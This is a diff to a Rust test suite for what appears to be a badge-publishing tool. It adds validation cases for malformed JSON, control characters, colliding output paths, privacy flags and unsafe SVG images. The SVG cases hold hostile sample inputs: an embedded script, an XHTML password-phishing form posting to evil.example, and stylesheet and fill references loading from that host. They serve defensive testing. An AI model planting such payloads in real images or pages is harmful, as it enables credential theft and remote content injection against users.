@@ -258,6 +258,13 @@ fn malformed_json(cases: &mut Vec<Case>) {
     cases.push(r("truncated", award_text(|s| s[..s.len() / 2].to_string()), &["json.syntax"], AWARD, Some("15:")));
     cases.push(r(
         "trailing comma in an object",
+        text(ISSUER, |s| s.replacen("badges/assertions/\"", "badges/assertions/\",", 1)),
+        &["json.syntax"],
+        ISSUER,
+        Some("13:"),
+    ));
+    cases.push(r(
+        "two commas in a row",
         award_text(|s| {
             s.replacen("\"issuedOn\": \"2026-03-01T10:00:00Z\"", "\"issuedOn\": \"2026-03-01T10:00:00Z\",", 1)
         }),
@@ -583,6 +590,13 @@ fn control_characters(cases: &mut Vec<Case>) {
         None,
     ));
     cases.push(built(c, "a line break in a name", name.set("Ada\nLovelace"), &[], Some("Ada\nLovelace")));
+    cases.push(built(
+        c,
+        "U+FFFF (not allowed in XML) in a badge name",
+        field(BADGE, "/name").set("Skill\u{ffff}"),
+        &["text.control"],
+        None,
+    ));
     cases.push(built(c, "U+2028 in a name", name.set("Ada\u{2028}Lovelace"), &[], None));
     for (label, ch) in
         [("RLO", '\u{202e}'), ("RLI", '\u{2067}'), ("PDI", '\u{2069}'), ("RLM", '\u{200f}'), ("ALM", '\u{61c}')]
@@ -768,6 +782,41 @@ fn svg_images(cases: &mut Vec<Case>) {
     ));
     cases.push(refused(
         c,
+        "an SVG no object names, with a script (it would be published too)",
+        write("badges/notes.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>pwn()</script></svg>"),
+        &["image.unsafe"],
+        "badges/notes.svg",
+        None,
+    ));
+    cases.push(refused(
+        c,
+        "an XHTML phishing form named .svg",
+        write(
+            BADGE_SVG,
+            "<?xml version=\"1.0\"?><!-- <svg --><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><form action=\"https://evil.example/\"><input name=\"pw\" type=\"password\"/></form></body></html>",
+        ),
+        &["image.format"],
+        BADGE,
+        Some("image"),
+    ));
+    cases.push(refused(
+        c,
+        "an xml-stylesheet processing instruction",
+        text(BADGE_SVG, |s| s.replacen("<svg ", "<?xml-stylesheet href=\"https://evil.example/x.css\"?>\n<svg ", 1)),
+        &["image.unsafe"],
+        BADGE,
+        Some("image"),
+    ));
+    cases.push(refused(
+        c,
+        "a fill that loads from elsewhere",
+        text(BADGE_SVG, |s| s.replacen("<title>", "<rect fill=\"url(https://evil.example/p#x)\"/><title>", 1)),
+        &["image.unsafe"],
+        BADGE,
+        Some("image"),
+    ));
+    cases.push(refused(
+        c,
         "HTML named .svg",
         write(BADGE_SVG, "<html><script>pwn()</script></html>"),
         &["image.format"],
@@ -854,6 +903,25 @@ fn unsafe_ids(cases: &mut Vec<Case>) {
     cases.push(id("a 300-character file name", format!("{B}assertions/{}.json", "a".repeat(300)), &["id.path"]));
     cases.push(id("not ending in .json", format!("{B}assertions/ada"), &["id.path"]));
     cases.push(id("a query", format!("{B}assertions/ada.json?x=../../y"), &["id.path"]));
+    cases.push(refused(
+        c,
+        "an id at another award's report file",
+        set(OTHER_AWARD, "/id", json!(format!("{B}assertions/ada-skill/verification.json"))),
+        &["output.collision"],
+        OTHER_AWARD,
+        Some("id"),
+    ));
+    cases.push(refused(
+        c,
+        "a static file where the feed goes",
+        Arc::new(|s: &Path| {
+            std::fs::create_dir_all(s.join("static")).unwrap();
+            std::fs::write(s.join("static/feed.xml"), "<feed/>").unwrap();
+        }),
+        &["output.collision"],
+        "static/feed.xml",
+        None,
+    ));
     cases.push(refused(
         c,
         "ids that differ only in case",
@@ -982,12 +1050,63 @@ fn privacy(cases: &mut Vec<Case>) {
         &["privacy.email"],
         None,
     ));
-    cases.push(built(
+    cases.push(refused(
         c,
         "an email as the recipient's name",
         field(AWARD, "/extensions:recipientProfile/name").set("someone@example.com"),
         &["privacy.email"],
-        None,
+        AWARD,
+        Some("extensions:recipientProfile.name"),
+    ));
+    cases.push(refused(
+        c,
+        "a plaintext mailto: URL recipient",
+        set(AWARD, "/recipient", json!({"type": "url", "hashed": false, "identity": "mailto:ada%40example.net"})),
+        &["recipient.plaintext"],
+        AWARD,
+        Some("recipient.identity"),
+    ));
+    cases.push(refused(
+        c,
+        "a misspelt private flag",
+        set(AWARD, "/evidence/0/accolade:Private", json!(true)),
+        &["accolade.flag"],
+        AWARD,
+        Some("evidence[0].accolade:Private"),
+    ));
+    cases.push(refused(
+        c,
+        "a private flag written as a string",
+        set(AWARD, "/evidence/0/accolade:private", json!("true")),
+        &["accolade.flag"],
+        AWARD,
+        Some("evidence[0].accolade:private"),
+    ));
+    cases.push(refused(
+        c,
+        "a private flag on the assertion instead of its evidence",
+        set(AWARD, "/accolade:private", json!(true)),
+        &["accolade.flag"],
+        AWARD,
+        Some("accolade:private"),
+    ));
+    cases.push(refused(
+        c,
+        "an unlisted flag on a badge class",
+        set(BADGE, "/accolade:unlisted", json!(true)),
+        &["accolade.flag"],
+        BADGE,
+        Some("accolade:unlisted"),
+    ));
+    cases.push(built(
+        c,
+        "private evidence with a non-web URL gets no warning that would quote it",
+        edit(AWARD, |v| {
+            v["evidence"][0]["id"] = json!("git@github.com:school/ada-exam.git");
+            v["evidence"][0]["accolade:private"] = json!(true);
+        }),
+        &[],
+        Some("The evidence for this award is private."),
     ));
     cases.push(built(
         c,
@@ -1253,9 +1372,10 @@ fn private_evidence_is_not_published() {
     let site = tmp.path().join("site");
     copy_tree(&repo().join("tests/fixtures/hostile"), &site);
     edit(AWARD, |v| {
-        let public = v["evidence"][0].clone();
+        let mut public = v["evidence"][0].clone();
+        public["accolade:private"] = json!(false);
         let private = json!({
-            "id": "https://drive.example/private-notebook-7f3a",
+            "id": "git@drive.example:private-notebook-7f3a",
             "name": "Marked exam script",
             "narrative": "Graded 71/100 by the second examiner.",
             "accolade:private": true,
